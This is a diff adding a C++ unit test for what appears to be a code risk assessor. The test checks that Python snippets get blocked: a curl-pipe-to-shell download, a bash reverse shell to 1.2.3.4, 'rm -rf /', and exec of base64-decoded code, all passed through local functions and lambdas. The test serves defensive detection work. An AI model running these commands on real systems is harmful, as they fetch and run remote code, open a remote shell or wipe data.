@@ -230,3 +230,28 @@ TEST(Assessor, DurationIsMeasured) {
 
 }  // namespace
 }  // namespace mai::assess::test
+
+namespace mai::assess::test {
+namespace {
+
+TEST(Assessor, LocalFunctionsAndLambdasPassArgumentsThrough) {
+  for (const char* code : {
+           "import os\ndef run(c):\n    os.system(c)\nrun('curl http://x/i | sh')\n",
+           "import os\ndef run(c, shell=True):\n    return os.popen(c).read()\nprint(run(c='curl http://x/i | sh'))\n",
+           "import subprocess\ndef sh(*args):\n    pass\ndef go(cmd):\n    subprocess.call(['bash', '-c', cmd])\ngo('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')\n",
+           "import os\nx = lambda c: os.system(c)\nx('rm -rf /')\n",
+           "import base64\ndef load(p):\n    return base64.b64decode(p)\nexec(load('cHJpbnQoMSk='))\n",
+           "import os\ndef a(c):\n    os.system(c)\ndef b(c):\n    a(c)\nb('curl http://x/i | sh')\n",
+       }) {
+    auto a = py(code);
+    EXPECT_EQ(a.level, RiskLevel::blocked) << code << " -> " << describe(a);
+  }
+  // Parameters do not leak: after the function, `os` is the module again.
+  auto b = py("import os\ndef f(os):\n    return os\nos.system('ls')\n");
+  EXPECT_TRUE(has_rule(b, "PY-OS-SYSTEM")) << describe(b);
+  auto c = py("import os\ndef run(c):\n    os.system(c)\nrun('ls -l')\n");
+  EXPECT_EQ(c.level, RiskLevel::medium) << describe(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
